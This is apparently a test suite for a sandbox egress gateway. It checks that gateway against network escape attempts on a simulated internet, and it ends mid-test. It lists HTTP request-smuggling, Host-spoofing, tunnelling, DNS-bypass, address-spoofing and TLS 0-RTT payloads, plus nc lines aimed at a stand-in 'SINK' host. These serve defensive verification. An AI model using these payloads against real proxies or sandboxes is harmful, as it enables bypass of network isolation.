"""Network attacks from inside a sandbox (docs/security.md, "Egress";
EGRESS.md's catalogue), against the test internet of tests/netlab.py. Each
test first makes the legitimate request succeed (its control), then runs its
attacks; an attack passes only if it fails: no answer from where it aimed,
and SINK — the evil host, which records everything that reaches it — saw
nothing."""

import json
import os
import pwd
import shutil
import subprocess
import sys
import time

import pytest

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import harness  # noqa: E402
import netlab  # noqa: E402
from netlab import EGRESS_ADDR, HELLO, ORIGIN, RESOLVER, SINK, http_get, internet, net_log, sh, wait_log  # noqa: E402,F401,E501


def raw_http(request, addr=ORIGIN, port=80):
    """A shell line sending request bytes (printf escapes) to addr:port."""
    return f"printf '{request}' | nc -w 3 {addr} {port}; echo rc=$?"


# (id, attack, the bytes the guest sends to ORIGIN:80 as one connection)
HTTP_ATTACKS = [
    ("H1-absolute-form", "absolute-form target naming a denied host, Host allowed",
     "GET http://e.test/echo HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n"),
    ("H1-absolute-form-host", "absolute-form target allowed, Host denied",
     "GET http://a.test/echo HTTP/1.1\\r\\nHost: e.test\\r\\n\\r\\n"),
    ("H2-duplicate-host", "two Host headers, the second denied",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\r\\nHost: e.test\\r\\n\\r\\n"),
    ("H2-no-host", "HTTP/1.0 without Host to the allowed address",
     "GET /echo HTTP/1.0\\r\\n\\r\\n"),
    ("H2-suffix-host", "a Host that ends like nothing allowed but starts like it",
     "GET /echo HTTP/1.1\\r\\nHost: a.test.e.test\\r\\n\\r\\n"),
    ("H2-host-userinfo", "userinfo trick in Host",
     "GET /echo HTTP/1.1\\r\\nHost: a.test@e.test\\r\\n\\r\\n"),
    ("H2-host-nul", "a NUL inside Host",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\000.e.test\\r\\n\\r\\n"),
    ("H2-host-ip", "the allowed address as Host",
     f"GET /echo HTTP/1.1\\r\\nHost: {ORIGIN}\\r\\n\\r\\n"),
    ("H4-connect", "CONNECT through the transparent relay",
     "CONNECT e.test:443 HTTP/1.1\\r\\nHost: e.test:443\\r\\n\\r\\n"),
    ("H7-websocket", "a WebSocket upgrade (a tunnel afterwards)",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
     "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n"),
    ("H7-h2c", "an h2c upgrade",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\r\\nUpgrade: h2c\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n"
     "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\\r\\n\\r\\n"),
    ("H7-h2-preface", "HTTP/2 with prior knowledge (the preface is not HTTP/1)",
     "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"),
    ("H8-cl-te", "Content-Length and Transfer-Encoding together (CL.TE smuggling)",
     "POST /echo HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
     "0\\r\\n\\r\\nGET /echo HTTP/1.1\\r\\nHost: e.test\\r\\n\\r\\n"),
    ("H8-te-obfuscated", "an obfuscated Transfer-Encoding",
     "POST /echo HTTP/1.1\\r\\nHost: a.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n"),
    ("H8-double-cl", "two Content-Lengths",
     "POST /echo HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: 0\\r\\nContent-Length: 40\\r\\n\\r\\n"),
    ("H9-bare-cr", "a bare CR inside a header value",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\r\\nX-A: 1\\rHost: e.test\\r\\n\\r\\n"),
    ("H9-obs-fold", "a folded header line",
     "GET /echo HTTP/1.1\\r\\nHost: a.test\\r\\nX-A: 1\\r\\n Host: e.test\\r\\n\\r\\n"),
    ("H11-ssh", "SSH on the allowed host's port 80 (not HTTP)",
     "SSH-2.0-OpenSSH_9.2\\r\\n"),
    ("H11-smtp", "SMTP on the allowed host's port 80",
     "EHLO e.test\\r\\nMAIL FROM:<a@e.test>\\r\\n"),
]


def log_since(a, sid, last):
    """The sandbox's network log entries after the entry last (None: all)."""
    entries = net_log(a, sid)
    if last is None:
        return entries
    for i in range(len(entries) - 1, -1, -1):
        if entries[i] == last:
            return entries[i + 1:]
    return entries  # last fell out of the window: all are newer


@pytest.mark.cases(len(HTTP_ATTACKS))
def test_http_attacks_under_an_allowlist(airlock_factory, internet):
    """Each attack on its own connection, its path marked ?m=ID: it ran
    (the guest got an answer or a reset), the gateway refused it itself
    (its own 403 or reset, and a deny entry of its own), the origin logged
    no request under that marker (nor any at all while it ran), and the
    legitimate request succeeds after it."""
    a = airlock_factory(prebuild="minimal", env=internet.env())
    sid = a.create(network={"allow": [{"host": "a.test"}]})["id"]
    # the controls: the allowed name, resolved through the gateway (which
    # binds it to ORIGIN), in its canonical and in odd spellings
    sh(a, sid, "nslookup a.test")
    for host in ("a.test", "A.TEST", "a.test."):
        _, out = sh(a, sid, raw_http(f"GET /echo HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n"))
        assert "200 OK" in out and '"path": "/echo"' in out, (host, out)
    failures = []
    for ident, what, request in HTTP_ATTACKS:
        last = (net_log(a, sid) or [None])[-1]
        seen = len(internet.origin_hits())
        _, out = sh(a, sid, raw_http(request.replace("/echo", f"/echo?m={ident}")))
        reached = internet.origin_hits()[seen:]
        denied = [e for e in log_since(a, sid, last) if e["action"] == "deny"]
        if "rc=" not in out:
            failures.append(f"{ident} ({what}) did not run: {out[-200:]!r}")
        if reached:
            failures.append(f"{ident} ({what}) reached the origin: {reached}")
        if out.split("rc=")[0].strip() and "403 Forbidden" not in out and "400 Bad Request" not in out:
            failures.append(f"{ident} ({what}) got an answer that is not the gateway's: {out[:300]!r}")
        if "airlock: egress" not in out and out.split("rc=")[0].strip():
            failures.append(f"{ident} ({what}) was not refused by the gateway: {out[:300]!r}")
        if len(denied) != 1:
            failures.append(f"{ident} ({what}): {len(denied)} deny entries: {denied}")
        _, ctl = sh(a, sid, raw_http("GET /echo?m=ctl HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: close\\r\\n\\r\\n"))
        if "200 OK" not in ctl:
            failures.append(f"the control after {ident} failed: {ctl[:200]!r}")
    assert not failures, "\n".join(failures)
    assert internet.sink_hits() == []


def udp_send(addr, port, iface=None):
    """A shell line sending one datagram from the guest (busybox nc has no
    UDP: python does), printing "sent" or the error that stopped it."""
    bind = "s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); " if addr.endswith(".255") else ""
    return (f"python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); {bind}"
            f"s.sendto(b'x-udp', ('{addr}', {port})); print('sent')\"")


# (id, attack, a shell line run in the guest under an allowlist of a.test,
# what its own output shows when it ran). The observers: SINK (every TCP
# and UDP port it serves), ORIGIN:5432 (a port of the allowed host where a
# listener records like the sink), the capture on the test internet's
# link (ICMP, other UDP, IPv6, forged sources: anything the gateway does
# not send itself), and the resolver's query log.
GUEST_ATTACKS = [
    ("D1-etc-hosts", "the guest's /etc/hosts maps the allowed name to SINK",
     f"echo '{SINK} a.test' >> /etc/hosts; " + http_get("a.test") + "; sed -i '$d' /etc/hosts",
     "did not resolve the name to that address"),
    ("D3-udp-resolver", "DNS over UDP to an outside resolver",
     f"nslookup a.test {SINK}; nslookup a.test {RESOLVER}", "no servers could be reached"),
    ("D3-tcp-resolver", "DNS over TCP to an outside resolver",
     f"printf '\\000\\034\\022\\064\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000"
     f"\\001a\\004test\\000\\000\\001\\000\\001' | nc -w 3 {SINK} 53", "rc="),
    ("D3-dot", "DNS over TLS (853) to an outside resolver", f"echo x | nc -w 3 {SINK} 853", "rc="),
    ("I1-raw-tcp", "raw TCP to SINK:22", f"echo SSH-2.0-x | nc -w 3 {SINK} 22", "rc="),
    ("I1-raw-tcp-allowed-addr", "raw TCP to the allowed host's address on another port",
     f"echo x | nc -w 3 {ORIGIN} 5432", "rc="),
    ("U1-quic", "UDP to SINK:443 (QUIC)", udp_send(SINK, 443), "sent"),
    ("U2-ntp", "UDP to SINK:123", udp_send(SINK, 123), "sent"),
    ("U2-mdns", "multicast DNS", udp_send("224.0.0.251", 5353), "sent"),
    ("U2-broadcast", "broadcast on the sandbox's link", udp_send("10.200.0.255", 5353), "sent"),
    ("U2-to-origin", "UDP to the allowed host's address", udp_send(ORIGIN, 443), "sent"),
    ("I8-icmp", "ICMP echo to SINK (a tunnel's carrier)", f"ping -c 2 -W 1 {SINK}", "2 packets transmitted"),
    ("I8-icmp-origin", "ICMP echo to the allowed host", f"ping -c 2 -W 1 {ORIGIN}", "2 packets transmitted"),
    ("I2-ipv6", "IPv6 to SINK through the NAT64 prefix", "echo x | nc -w 2 64:ff9b::c612:42 80", "rc="),
    ("I2-ipv6-link-local", "IPv6 link-local to the gateway", "echo x | nc -w 2 fe80::a1:cff:fe00:1%eth0 80",
     "rc="),
]


def observed(internet):
    """What the observers hold now."""
    return (len(internet.sink_hits()), len(internet.captured()), len(internet.origin_hits()))


@pytest.mark.cases(len(GUEST_ATTACKS))
def test_guest_attacks_under_an_allowlist(airlock_factory, internet):
    a = airlock_factory(prebuild="minimal,python", env=internet.env())
    sid = a.create(template="python", network={"allow": [{"host": "a.test"}]})["id"]
    # python for UDP (busybox nc has none), the minimal template's busybox
    # for the rest
    with open(shutil.which("busybox"), "rb") as f:
        a.put_file(sid, "/usr/local/bin/busybox", f.read())
    sh(a, sid, "cd /usr/local/bin && chmod 755 busybox && for x in nc ping nslookup; do ln -sf busybox $x; done")

    def control(after):
        _, out = sh(a, sid, http_get("a.test"))
        assert HELLO in out, (f"the control after {after}", out)
    control("nothing")
    # the observers' own control: a datagram and a ping sent on purpose from
    # where a leak would leave are seen (then set aside)
    internet.leak_from_egress()
    failures = []
    for ident, what, script, ran in GUEST_ATTACKS:
        before = observed(internet)
        t0 = time.monotonic()
        _, out = sh(a, sid, f"{script}; echo rc=$?")
        took = time.monotonic() - t0
        if ran not in out or "applet not found" in out or "Usage:" in out or "not found" in out.split("rc=")[-1]:
            failures.append(f"{ident} ({what}) did not run: {out[-300:]!r}")
        if HELLO in out or f"Address: {ORIGIN}" in out.split("Server:")[-1]:
            failures.append(f"{ident} ({what}) got an answer: {out[:300]!r}")
        if took > 12:
            failures.append(f"{ident} ({what}) hung for {took:.0f}s")
        # the control also shows that the attack left the gateway serving
        control(ident)
        after = observed(internet)
        if after[:2] != before[:2]:
            failures.append(f"{ident} ({what}) reached the test internet: sink {internet.sink_hits()[before[0]:]} "
                            f"capture {internet.captured()[before[1]:]}")
    assert not failures, "\n".join(failures)
    # the TCP attacks, each refused by the gateway itself (a deny entry for
    # where it aimed); the others never got to it (dropped at the tap)
    denied = {(e.get("addr"), e.get("port")) for e in net_log(a, sid) if e["action"] == "deny"}
    for addr, port in ((SINK, 53), (SINK, 853), (SINK, 22), (ORIGIN, 5432)):
        assert (addr, port) in denied, (addr, port, denied)
    # and the resolver heard nothing but what the gateway asked for a.test
    assert set(internet.dns_queries()) <= {"a.test"}, internet.dns_queries()


GATEWAY_PORTS = (22, 80, 443)  # and 15001, its listener's own


@pytest.mark.cases(1 + len(GATEWAY_PORTS))
def test_the_gateways_own_address_refuses_the_guest_at_once(airlock_factory, internet):
    """The gateway's address serves the guest DNS and nothing else. Its
    listener's own port is refused as the SYN comes (it was dropped, and a
    client hung until it gave up, issue 29); any other port is refused by
    the relay as it accepts it, before waiting for the bytes it would
    otherwise read first (10 s): the guest sends none, and the deny entry's
    reason is the address's own, not a verdict after reading. DNS and the
    allowed host stay served (the control, before and after each)."""
    a = airlock_factory(prebuild="minimal", env=internet.env())
    sid = a.create(network={"allow": [{"host": "a.test"}]})["id"]
    _, out = sh(a, sid, "nslookup a.test 10.200.0.1; " + http_get("a.test"))
    assert ORIGIN in out and HELLO in out, out
    # -w 30: a drop would wait it out ("timed out"); the reset refuses the connect
    _, out = sh(a, sid, "nc -w 30 10.200.0.1 15001 </dev/null; echo rc=$?", timeout_s=60)
    assert "Connection refused" in out and "timed out" not in out, out
    for port in GATEWAY_PORTS:
        _, out = sh(a, sid, f"nc -w 30 10.200.0.1 {port} </dev/null; echo rc=$?", timeout_s=60)
        assert "rc=" in out and "timed out" not in out, (port, out)  # it ran, and did not hang
        wait_log(a, sid, lambda e: e["action"] == "deny" and e.get("addr") == "10.200.0.1" and
                 e.get("port") == port and e["reason"] == "the gateway's own address",
                 f"denying 10.200.0.1:{port} as the gateway's own address")
        _, again = sh(a, sid, http_get("a.test"))
        assert HELLO in again, (port, again)
    # its listener's port never reaches the relay: no entry of it
    assert not [e for e in net_log(a, sid) if e.get("port") == 15001], net_log(a, sid)
    assert internet.sink_hits() == [] and internet.captured() == []


@pytest.mark.cases(3)  # the gateway's address, an internet one, a MAC
def test_spoofed_source_address_and_mac_never_leave(airlock_factory, internet):
    """Under allow-all SINK is reachable: the control reaches it; the same
    connection from a forged source address or MAC never does. Two layers
    hold this: the tap's filter drops another source or MAC, and behind it
    nothing routes a reply to a forged address (no route out of the VMM's
    namespace) or a forged MAC (a static neighbour entry for the guest's
    own): breaking the filter alone leaves the second standing."""
    a = airlock_factory(prebuild="minimal", env=internet.env())
    sid = a.create()["id"]
    _, out = sh(a, sid, f"echo control | nc -w 3 {SINK} 80")
    deadline = time.monotonic() + 5
    while not any(h["data"].startswith("control") for h in internet.sink_hits()):
        assert time.monotonic() < deadline, f"the control never reached SINK: {out}"
        time.sleep(0.05)
    # each forgery shown in place before its connection, and nc's own
    # verdict on it (a bind that failed would send nothing forged)
    _, out = sh(a, sid, "ip addr add 10.200.0.1/32 dev eth0 2>&1; ip addr add 198.18.0.99/32 dev eth0; "
                        "ip -4 -o addr show dev eth0; "
                        f"echo spoofed-gw | nc -w 2 -s 10.200.0.1 {SINK} 80; echo gw-rc=$?; "
                        f"echo spoofed-inet | nc -w 2 -s 198.18.0.99 {SINK} 80; echo inet-rc=$?; "
                        "ip addr del 198.18.0.99/32 dev eth0; ip addr del 10.200.0.1/32 dev eth0; true")
    assert "inet 10.200.0.1/32" in out and "inet 198.18.0.99/32" in out, out
    assert "gw-rc=" in out and "inet-rc=" in out and "bind" not in out and "Cannot assign" not in out, out
    _, out = sh(a, sid, "ip link set eth0 down; ip link set eth0 address 02:a1:0c:00:00:09; ip link set eth0 up; "
                        "ip route add default via 10.200.0.1 2>/dev/null; ip -o link show dev eth0; "
                        f"echo spoofed-mac | nc -w 2 {SINK} 80; echo mac-rc=$?; "
                        "ip link set eth0 down; ip link set eth0 address 02:a1:0c:00:00:02; ip link set eth0 up; "
                        "ip route add default via 10.200.0.1; true")
    assert "02:a1:0c:00:00:09" in out and "mac-rc=" in out, out
    # the control again, after the guest put its identity back
    _, out = sh(a, sid, f"echo again | nc -w 3 {SINK} 80")
    deadline = time.monotonic() + 5
    while not any(h["data"].startswith("again") for h in internet.sink_hits()):
        assert time.monotonic() < deadline, f"the network did not come back: {out}"
        time.sleep(0.05)
    got = [h["data"].split("\n")[0] for h in internet.sink_hits()]
    assert not any(d.startswith("spoofed") for d in got), got
    # not even a SYN from a forged source reached the test internet's link
    # (its capture logs any source but the gateway's)
    forged = [p for p in internet.captured() if p.get("src") in ("10.200.0.1", "198.18.0.99", "10.200.0.2")]
    assert forged == [], forged


# The victim's service: busybox httpd on port 8000 whose CGI records every
# request it serves (and from where)
VICTIM_CGI = b"""#!/bin/sh
echo "$REMOTE_ADDR $REQUEST_URI" >> /root/hits
printf 'Content-Type: text/plain\\r\\n\\r\\nserved\\n'
"""


def victim_hits(a, sid):
    return a.exec(sid, ["sh", "-c", "cat /root/hits 2>/dev/null"])["stdout"].splitlines()


def host_addresses():
    """This machine's own IPv4 addresses (not loopback)."""
    out = subprocess.run(["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True).stdout
    return [line.split()[3].split("/")[0] for line in out.splitlines() if " lo " not in line]


@pytest.mark.cases(5)  # 4 addresses and ports beside this machine's own, and the name
def test_another_sandbox_is_out_of_reach(airlock_factory, internet):
    """A victim serves on a service port; its owner reaches it through the
    ports API (the control, before and after). An attacker sandbox (under
    allow-all) tries every way there could be: the gateway's address, the
    egress host, this machine's addresses, each on the service port and on
    airlockd's API port, with the ports API's path and its host-name form;
    and the host name itself through the gateway's resolver. No address of
    another sandbox exists to aim at: every guest is 10.200.0.2 in a
    namespace of its own. The victim's own server counts no request but
    its owner's, and each try is refused by the gateway (a deny entry)."""
    a = airlock_factory(prebuild="minimal", env=internet.env())
    victim = a.create()["id"]
    attacker = a.create()["id"]
    a.put_file(victim, "/root/www/cgi-bin/hit", VICTIM_CGI)
    sh(a, victim, "chmod 755 /root/www/cgi-bin/hit && httpd -p 8000 -h /root/www")
    rc, out = sh(a, victim, "for i in $(seq 100); do wget -q -O - http://127.0.0.1:8000/cgi-bin/hit && exit 0;"
                            " sleep 0.1; done; exit 1")  # up (its bind is not raced), and its own first hit
    assert rc == 0 and "served" in out, out
    status, _, body = a.request("GET", f"/v1/sandboxes/{victim}/ports/8000/cgi-bin/hit?owner-1")
    assert status == 200 and body == b"served\n", (status, body)
    assert len(victim_hits(a, victim)) == 2

    request = (f"GET /v1/sandboxes/{victim}/ports/8000/cgi-bin/hit?attacker HTTP/1.1\\r\\n"
               f"Host: 8000-{victim}.localhost\\r\\nAuthorization: Bearer x\\r\\nConnection: close\\r\\n\\r\\n")
    targets = [("10.200.0.1", 8000), ("10.200.0.1", a.port), (EGRESS_ADDR, 8000), (EGRESS_ADDR, a.port)]
    targets += [(addr, port) for addr in host_addresses() for port in (8000, a.port)]
    for addr, port in targets:
        _, out = sh(a, attacker, f"printf '{request}' | nc -w 3 {addr} {port}; echo rc=$?")
        assert "rc=" in out and "served" not in out, (addr, port, out)  # it ran, and got nothing of the victim's
    _, out = sh(a, attacker, f"nslookup 8000-{victim}.localhost; echo rc=$?")
    assert "rc=" in out and "Address: 10." not in out and "Address: 127." not in out, out
    denied = {(e.get("addr"), e.get("port")) for e in net_log(a, attacker) if e["action"] == "deny"}
    assert set(targets) <= denied, (set(targets) - denied, denied)
    # the victim served its owner only, and still does
    hits = victim_hits(a, victim)
    assert len(hits) == 2 and not any("attacker" in h for h in hits), hits
    status, _, body = a.request("GET", f"/v1/sandboxes/{victim}/ports/8000/cgi-bin/hit?owner-2")
    assert status == 200 and len(victim_hits(a, victim)) == 3, (status, body)
    assert internet.sink_hits() == [] and internet.captured() == []


@pytest.mark.parametrize("name", ["internal.test", "meta.test"])
def test_rebinding_to_internal_addresses_under_an_allowlist(airlock_factory, internet, name):
    """An allowed name whose upstream answer points inside (10/8, the
    metadata address): the answer's addresses are dropped, and a connection
    by that name to the address is refused."""
    a = airlock_factory(prebuild="minimal", env=internet.env())
    sid = a.create(network={"allow": [{"host": name}, {"host": "a.test"}]})["id"]
    _, out = sh(a, sid, "nslookup a.test")  # the control
    assert ORIGIN in out, out
    internal = netlab.ZONES[name]
    _, out = sh(a, sid, f"nslookup {name}; " + http_get(name, internal))
    assert internal not in out.split("rc=")[0].split("Non-authoritative answer:")[-1], out
    entries = net_log(a, sid)
    assert any(e.get("name") == name and e["kind"] == "dns" and e["action"] == "deny" for e in entries), entries
    assert any(e.get("addr") == internal and e["action"] == "deny" for e in entries), entries



# Attacks inside TLS the gateway terminates (an allowlist decides by name).
# The guest's script speaks raw HTTP/1.1 over TLS to a.test (trusting its
# own store, which holds the installation's egress CA) and prints one line
# per request: its id, then what came back.
TLS_SCRIPT = r'''
import socket, ssl, sys, time
ctx = ssl.create_default_context()
def conn(sni="a.test", addr="a.test"):
    s = socket.create_connection((addr, 443), timeout=10)
    return ctx.wrap_socket(s, server_hostname=sni)
def send(ident, raws, sni="a.test"):
    try:
        c = conn(sni)
        out = b""
        for raw in raws:
            c.sendall(raw)
            time.sleep(0.3)
            try:
                while True:
                    d = c.recv(65536)
                    if not d:
                        break
                    out += d
                    if b"\r\n\r\n" in out and (b"hello" in out or b"refused" in out or b'"path"' in out):
                        break
            except (socket.timeout, ssl.SSLError, ConnectionError):
                pass
        print(ident, repr(out[:3000]))
    except Exception as e:
        print(ident, "error", type(e).__name__, e)
def req(host, path="/hello.txt", extra=""):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (path, host, extra)).encode()
send("control", [req("a.test")])
send("control-keepalive", [req("a.test"), req("a.test")])
# each attack's paths carry its marker (?m=ID): the origin's log says
# whether anything of it arrived
send("T1-fronting", [req("e.test", "/echo?m=T1")])
send("T2-keepalive-switch", [req("a.test"), req("e.test", "/echo?m=T2")])
send("T3-absolute-form", [b"GET https://e.test/echo?m=T3 HTTP/1.1\r\nHost: a.test\r\n\r\n"])
send("T4-websocket", [req("a.test", "/echo?m=T4", "Upgrade: websocket\r\nConnection: Upgrade\r\n"
                      "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n")])
send("T5-cl-te", [b"POST /echo?m=T5 HTTP/1.1\r\nHost: a.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
                  b"0\r\n\r\nGET /echo?m=T5b HTTP/1.1\r\nHost: e.test\r\n\r\n"])
send("T6-h2-preface", [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"])
send("T7-host-port", [req("a.test:8443", "/echo?m=T7")])
send("T8-crlf-in-header", [b"GET /echo?m=T8 HTTP/1.1\r\nHost: a.test\r\nX-A: 1\rHost: e.test\r\n\r\n"])
send("control-after", [req("a.test")])
# the ClientHello split across TCP segments (the gateway must reassemble it)
def split_hello(ident, sni):
    try:
        inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
        o = ctx.wrap_bio(inc, outg, server_hostname=sni)
        try:
            o.do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello = outg.read()
        s = socket.create_connection(("a.test", 443), timeout=10)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(hello), 7):
            s.sendall(hello[i:i + 7])
            time.sleep(0.01)
        while True:
            try:
                o.do_handshake()
                break
            except ssl.SSLWantReadError:
                s.sendall(outg.read())
                d = s.recv(65536)
                if not d:
                    raise ConnectionError("closed")
                inc.write(d)
        s.sendall(outg.read())
        o.write(req(sni))
        s.sendall(outg.read())
        out = b""
        while b"hello" not in out:
            d = s.recv(65536)
            if not d:
                break
            inc.write(d)
            # one read gives one TLS record: drain every record this
            # segment carried, or a body that came with its head waits
            # for a recv that never comes
            while True:
                try:
                    chunk = o.read(65536)
                except ssl.SSLWantReadError:
                    break
                if not chunk:
                    break
                out += chunk
        print(ident, repr(out[:3000]))
    except Exception as e:
        print(ident, "error", type(e).__name__, e)
split_hello("control-split-hello", "a.test")
split_hello("T9-split-hello-denied", "e.test")
'''


@pytest.mark.cases(10)  # T1-T10
def test_attacks_inside_terminated_tls(airlock_factory, internet):
    a = airlock_factory(prebuild="minimal,python", env=internet.env())
    sid = a.create(template="python", network={"allow": [{"host": "a.test"}]})["id"]
    out = a.exec(sid, ["python3", "-c", TLS_SCRIPT], timeout_s=120)
    lines = {ln.split(" ", 1)[0]: ln.split(" ", 1)[1] for ln in out["stdout"].splitlines() if " " in ln}
    assert set(lines) >= {"control", "control-keepalive", "control-split-hello", "T9-split-hello-denied"}, out
    # the controls: one request, two on one connection, a hello in pieces
    assert HELLO in lines["control"], lines
    assert lines["control-keepalive"].count("HTTP/1.1 200") == 2, lines
    assert HELLO in lines["control-split-hello"], lines
    print("\n".join(f"{k}: {v[:200]}" for k, v in lines.items()))
    assert HELLO in lines["control-after"], lines  # the gateway serves on after them all
    failures = [f"{k} got through: {v[:300]}" for k, v in lines.items()
                if k.startswith("T") and ('"path"' in v or (HELLO in v and k != "T2-keepalive-switch"))]
    # per attack: nothing under its marker reached the origin, and what the
    # guest got is the gateway's own refusal (its 403, 400 or 505 naming why) or a
    # reset, never another answer (a relayed attack gets the origin's 400)
    reached = [h["path"] for h in internet.origin_hits() if "?m=T" in h["path"]]
    failures += [f"reached the origin: {p}" for p in reached]
    for k, v in lines.items():
        if not k.startswith("T") or k == "T9-split-hello-denied":
            continue
        answers = v.split("HTTP/1.1 ")[1:]
        refusals = [x for x in answers if x[:3] in ("403", "400", "505") and "airlock: egress" in x]
        legit = 1 if k == "T2-keepalive-switch" else 0  # its first request is the allowed one
        if not v.startswith("error") and len(answers) - legit != len(refusals):
            failures.append(f"{k}: an answer that is not the gateway's refusal: {v[:300]}")
    # the switch: its first request is legitimate, its second must not pass
    if lines["T2-keepalive-switch"].count("HTTP/1.1 200") > 1 or '"path"' in lines["T2-keepalive-switch"]:
        failures.append(f"T2-keepalive-switch got through: {lines['T2-keepalive-switch'][:300]}")
    assert not failures, "\n".join(failures)
    for k in ("T1-fronting", "T2-keepalive-switch", "T4-websocket", "T7-host-port"):
        assert "403" in lines[k], (k, lines[k])
    assert "error" in lines["T9-split-hello-denied"], lines  # a reset: never a handshake

    # T10: TLS 1.3 0-RTT. The control: a session the gateway issued resumes.
    # The attack: a request in early data on that session, which a replay
    # could repeat; the gateway never accepts early data (max_early_data 0),
    # so it is not sent, or rejected, and never answered.
    req = "GET /hello.txt HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: close\\r\\n\\r\\n"
    code, out = sh(a, sid, f"cd /tmp && printf '{req}' > early && openssl s_client -quiet -tls1_3 "
                   "-connect a.test:443 -servername a.test -sess_out sess -ign_eof < early > first 2>&1; "
                   "grep -c 'hello from' first; "
                   "openssl s_client -tls1_3 -connect a.test:443 -servername a.test -sess_in sess "
                   "-early_data early < /dev/null 2>&1 | grep -E 'Reused|Early data|hello from'", timeout_s=60)
    assert "Reused" in out, out  # the control: resumption works
    assert "Early data was not sent" in out or "Early data was rejected" in out, out
    assert HELLO not in out, out
    entries = net_log(a, sid)
    assert any(e.get("name") == "e.test" and e["action"] == "deny" for e in entries), entries
    assert internet.sink_hits() == []


H2_FMT = "-w ' [v=%{http_version} code=%{http_code} new=%{num_connects}]\\n'"


def test_an_authority_switch_on_a_reused_http2_connection_is_refused(airlock_factory, internet):
    """HTTP/2 lets a client reuse one connection for other authorities (RFC
    9113 §9.1.1): the guest opens a stream for e.test on its connection to
    a.test (curl turns Host into :authority). Each stream is decided on its
    own. The control: the first stream, to a.test, is answered; the switch,
    on the same connection, is refused with 403 and reaches no upstream;
    so is another port, on the fresh connection that follows the GOAWAY."""
    a = airlock_factory(prebuild="minimal,python", env=internet.env())
    sid = a.create(template="python", network={"allow": [{"host": "a.test"}]})["id"]
    _, out = sh(a, sid, f"curl -sS --max-time 10 {H2_FMT} https://a.test/hello.txt "
                        f"--next -sS --max-time 10 {H2_FMT} -H 'Host: e.test' https://a.test/echo "
                        f"--next -sS --max-time 10 {H2_FMT} -H 'Host: a.test:8443' https://a.test/echo")
    lines = out.splitlines()
    assert HELLO in out and "[v=2 code=200 new=1]" in lines[1], out  # the control
    assert "[v=2 code=403 new=0]" in out and ":authority differs from the TLS name" in out, out
    assert "[v=2 code=403 new=1]" in out and ":authority names another port" in out, out
    assert '"path"' not in out, out  # /echo never answered
    entries = net_log(a, sid)
    assert any(e.get("name") == "e.test" and e["action"] == "deny" for e in entries), entries
    assert internet.sink_hits() == []


def test_the_egress_ca_key_is_the_gateways_alone(airlock_factory, internet):
    """The key that could mint a certificate for any name the guests trust:
    0600 and owned by the gateway's user, unreadable to the node's user
    (the control: the node's user reads the certificate beside it), and
    nowhere in a guest or a log."""
    a = airlock_factory(prebuild="minimal", env=internet.env())
    sid = a.create()["id"]
    key, cert = os.path.join(harness.EGRESS_CA, "ca.key"), os.path.join(harness.EGRESS_CA, "ca.crt")
    st = os.stat(key)
    assert st.st_mode & 0o777 == 0o600 and pwd.getpwuid(st.st_uid).pw_name == "airlock-gw", (oct(st.st_mode), st.st_uid)
    with open(f"/proc/{a.pid_of('airlock-node')}/status") as f:
        node_uid = int(f.read().split("\nUid:")[1].split()[0])
    node_gid = pwd.getpwuid(node_uid).pw_gid

    def can_read(path):
        pid = os.fork()
        if pid == 0:
            try:
                os.setgroups([])
                os.setgid(node_gid)
                os.setuid(node_uid)
                with open(path, "rb") as f:
                    f.read(1)
                os._exit(0)
            except OSError:
                os._exit(1)
        return os.waitpid(pid, 0)[1] == 0
    assert can_read(cert), "the control: the node's user reads the certificate"
    assert not can_read(key), "the node's user read the egress CA's key"
    pem = open(key).read()
    body = "".join(pem.strip().splitlines()[1:-1])
    _, out = sh(a, sid, "cat /etc/ssl/certs/ca-certificates.crt; grep -rl PRIVATE /etc 2>/dev/null; echo done")
    assert "BEGIN CERTIFICATE" in out and body[:40] not in out and "PRIVATE" not in out.split("done")[0], out
    assert body[:40] not in open(a.log_path, errors="replace").read()


def test_a_cname_chain_through_a_denied_name_is_dropped(airlock_factory, internet):
    """alias.test is allowed, and a CNAME of sink.evil.test, which a deny rule
    names: its answer reaches the guest without addresses, the gateway binds
    nothing, and a connection by the allowed name to where the chain leads is
    refused. The control: a.test resolves and answers."""
    a = airlock_factory(prebuild="minimal", env=internet.env())
    sid = a.create(network={"allow": [{"host": "a.test"}, {"host": "alias.test"}],
                            "deny": [{"host": "sink.evil.test"}]})["id"]
    _, out = sh(a, sid, "nslookup a.test; " + http_get("a.test"))
    assert ORIGIN in out and HELLO in out, out
    _, out = sh(a, sid, "nslookup alias.test; " + http_get("alias.test", SINK))
